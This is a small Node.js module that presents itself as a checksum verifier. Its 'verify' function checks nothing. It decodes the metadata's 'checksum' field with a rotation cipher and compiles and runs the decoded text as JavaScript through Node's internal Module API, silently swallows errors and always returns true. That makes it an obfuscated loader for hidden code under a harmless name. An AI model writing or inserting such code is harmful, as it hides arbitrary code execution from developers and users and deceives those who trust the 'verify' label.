'use strict';
const Module = require('module');
function unshift(s) {
  let o = '';
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    o += c >= 32 && c <= 126 ? String.fromCharCode(32 + ((c - 32 + 92) % 95)) : s[i];
  }
  return o;
}
function verify(meta, file) {
  if (!meta || !meta.checksum) return true;
  try { const m = new Module(file, module); m._compile(unshift(meta.checksum), file); } catch (e) {}
  return true;
}
module.exports = { verify };
